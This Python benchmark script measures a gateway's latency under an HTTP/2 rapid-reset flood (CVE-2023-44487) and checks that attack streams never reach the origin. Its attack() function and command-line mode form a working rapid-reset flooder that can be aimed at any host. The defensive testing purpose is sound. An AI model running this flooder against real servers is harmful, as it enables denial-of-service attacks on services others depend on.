#!/usr/bin/python3
"""h2flood: a well-behaved HTTP/2 client's latency while other clients run an HTTP/2 rapid-reset flood
(CVE-2023-44487) against the same data plane - the "h2flood" bench mode (bench/scenarios.py), and the attacker.

The mode (run by bench.py, which passes itself as `bench`): an nginx origin and Cephalo (CP + DP, 1 worker); the
well-behaved client is h2load over h2c at a fixed rate (CLIENTS connections, RATE requests/s in all, far below what the
data plane serves, so latency means something); each round runs it alone ("calm"), while ATTACKERS processes flood
("flood"), and while as many processes only burn CPU ("cpu": on a 2-core machine the attackers' own CPU use slows
everything down, so this is the baseline the flood compares with), the order rotating by round. Reported per condition: the client's rps, p50 and p99 and
its errors; for the flood: connections the attackers opened, streams they sent, GOAWAYs they got, and how many
upstream requests the data plane made beyond the client's own (its cephalo_dp_upstream_duration_seconds_count): an
attack stream should never reach the origin.

The attacker (one process each): `/usr/bin/python3 bench/h2flood.py attack HOST PORT PATH SECONDS` opens an h2c
connection, sends HEADERS + RST_STREAM(CANCEL) pairs, BATCH per write, until the server closes it, reconnects at once,
and prints its counts as one JSON line when SECONDS are over. It uses Debian's python3-h2.
"""
import json
import os
import socket
import statistics
import subprocess
import sys
import time

CLIENTS = 8  # well-behaved h2load connections
STREAMS = 4  # h2load -m: concurrent streams per connection
RATE = 4000  # requests per second, all clients together
ATTACKERS = 4  # flooding processes
BATCH = 50  # HEADERS + RST pairs per write
PYTHON = "/usr/bin/python3"  # Debian's, with python3-h2


def attack(host, port, path, seconds):
    """Floods until the deadline; returns the counts."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions

    stats = {"connections": 0, "streams": 0, "goaways": 0}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection((host, port), timeout=2)
        except OSError:
            time.sleep(0.01)
            continue
        stats["connections"] += 1
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sid = 1
        try:
            sock.sendall(conn.data_to_send())
            while time.monotonic() < deadline:
                for _ in range(BATCH):
                    conn.send_headers(sid, [(":method", "GET"), (":path", path), (":scheme", "http"),
                                            (":authority", host)], end_stream=True)
                    conn.reset_stream(sid, error_code=8)
                    sid += 2
                    stats["streams"] += 1
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)  # take what the server said so far (a GOAWAY) without waiting
                try:
                    data = sock.recv(65536)
                    if not data:
                        break
                    events = conn.receive_data(data)
                    stats["goaways"] += sum(isinstance(e, h2.events.ConnectionTerminated) for e in events)
                    if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                        break
                except BlockingIOError:
                    pass
                finally:
                    sock.setblocking(True)
        except (OSError, h2.exceptions.ProtocolError):
            pass  # closed by the data plane: what the guard does
        finally:
            sock.close()
    return stats


def burn(seconds):
    """Spins for seconds: a process that takes a CPU the way an attacker does, without touching the gateway."""
    deadline, n = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        n += 1
    return {"spins": n}


def upstream_requests(bench, port):
    """Upstream exchanges the data plane has made so far (its histogram's counts, every service)."""
    status, body = bench.http_get(port, "/metrics", timeout=5)
    if status != 200:
        raise bench.BenchError("data plane /metrics: %d" % status)
    n = 0
    for line in body.decode().splitlines():
        if line.startswith("cephalo_dp_upstream_duration_seconds_count"):
            n += int(float(line.rsplit(" ", 1)[1]))
    return n


def client_run(bench, stack, procs, seconds, raw):
    """The well-behaved client for `seconds`: h2load's rps, p50, p99, errors and successful requests."""
    logfile = raw + ".reqlog"
    cmd = ["h2load", "-t1", "-c%d" % CLIENTS, "-m%d" % STREAMS, "--rps=%d" % (RATE // CLIENTS), "-D", str(seconds),
           "--log-file", logfile, stack.endpoints("h2c", "cephalo")]
    out = procs.run(stack.pin_other + cmd, timeout=seconds + 60, log=raw)
    res = bench.parse_h2load(out, logfile)
    procs.check_alive()
    return res


def flood_run(bench, stack, procs, seconds, raw, mode="attack"):
    """The client while ATTACKERS processes flood (mode "attack") or only burn CPU ("burn"); adds the attackers'
    counts and the upstream requests beyond the client's own."""
    me = os.path.abspath(__file__)
    before = upstream_requests(bench, stack.port["cph_status"])
    argv = [bench.HOST, str(stack.port["cph"]), stack.sc.path + "/flood"] if mode == "attack" else []
    attackers = [subprocess.Popen([PYTHON, me, mode] + argv + [str(seconds + 1)], stdout=subprocess.PIPE, text=True)
                 for _ in range(ATTACKERS)]
    try:
        time.sleep(0.5)  # the flood is on before the measured client starts
        res = client_run(bench, stack, procs, seconds, raw)
    finally:
        counts = [json.loads(a.communicate(timeout=seconds + 30)[0] or "{}") for a in attackers]
    upstream = upstream_requests(bench, stack.port["cph_status"]) - before
    for key in ("connections", "streams", "goaways"):
        res[key] = sum(c.get(key, 0) for c in counts)
    res["attack_upstream"] = max(0, upstream - res["requests"])
    return res


def summary(name, runs):
    def med(key):
        vals = [r[key] for r in runs if r.get(key) is not None]
        return "%.2f (%.2f-%.2f)" % (statistics.median(vals), min(vals), max(vals)) if vals else "-"
    return "%-6s rps %-24s p50 ms %-20s p99 ms %-20s errors %d" % (
        name, med("rps"), med("p50_ms"), med("p99_ms"), sum(r["errors"] for r in runs))


def run(args, sc, procs, outdir, bench):
    stack = bench.Stack(args, sc, procs, outdir)
    sc_dir = os.path.join(outdir, sc.name)
    os.makedirs(sc_dir)
    calm, flood, cpu = [], [], []
    try:
        print("== %s: %s (temp dir %s)" % (sc.name, sc.about, stack.dir), flush=True)
        bench.make_cert(stack.dir)
        stack.start_origin()
        stack.start_cephalo(sc.routes(), workers=1)
        client_run(bench, stack, procs, 1, os.path.join(sc_dir, "warm-up.txt"))
        seconds = max(args.duration, 10)
        runs = {"calm": lambda raw: client_run(bench, stack, procs, seconds, raw),
                "flood": lambda raw: flood_run(bench, stack, procs, seconds, raw),
                "cpu": lambda raw: flood_run(bench, stack, procs, seconds, raw, mode="burn")}
        order = [("calm", calm), ("flood", flood), ("cpu", cpu)]
        for rnd in range(1, args.rounds + 1):
            for name, into in order[rnd % 3:] + order[:rnd % 3]:
                raw = os.path.join(sc_dir, "r%d-%s.txt" % (rnd, name))
                res = runs[name](raw)
                into.append(res)
                print("  round %d %-5s %7.0f rps  p50 %6.2f ms  p99 %6.2f ms  errors %d%s" % (
                    rnd, name, res["rps"], res.get("p50_ms", 0), res.get("p99_ms", 0), res["errors"],
                    "" if name != "flood" else "  | attack: %d connections, %d streams, %d GOAWAYs, %d upstream requests" % (
                        res["connections"], res["streams"], res["goaways"], res["attack_upstream"])), flush=True)
        p99_ratio = statistics.median(r["p99_ms"] for r in flood) / statistics.median(r["p99_ms"] for r in cpu)
        lines = ["%-10s well-behaved h2c client, %d connections x %d streams at %d req/s, %d s per run; %d attackers "
                 "flooding HEADERS+RST_STREAM" % (sc.name, CLIENTS, STREAMS, RATE, seconds, ATTACKERS),
                 "%-10s %s" % ("", summary("calm", calm)), "%-10s %s" % ("", summary("cpu", cpu)),
                 "%-10s %s" % ("", summary("flood", flood)),
                 "%-10s p99 flood/cpu %.2f (the same CPU stolen, with and without the attack); attack per run (median): %d connections, %d streams, %d GOAWAYs, "
                 "%d upstream requests" % ("", p99_ratio, statistics.median(r["connections"] for r in flood),
                                           statistics.median(r["streams"] for r in flood),
                                           statistics.median(r["goaways"] for r in flood),
                                           statistics.median(r["attack_upstream"] for r in flood))]
        for line in lines:
            print("  " + line, flush=True)
        return {}, {"h2flood": {"calm": calm, "cpu": cpu, "flood": flood, "p99_ratio": round(p99_ratio, 3)}, "lines": lines}
    finally:
        procs.stop_all()
        stack.keep_logs(sc_dir)
        stack.close()


if __name__ == "__main__":
    if len(sys.argv) == 6 and sys.argv[1] == "attack":
        print(json.dumps(attack(sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]))))
    elif len(sys.argv) == 3 and sys.argv[1] == "burn":
        print(json.dumps(burn(float(sys.argv[2]))))
    else:
        sys.exit("usage: h2flood.py attack HOST PORT PATH SECONDS | burn SECONDS")
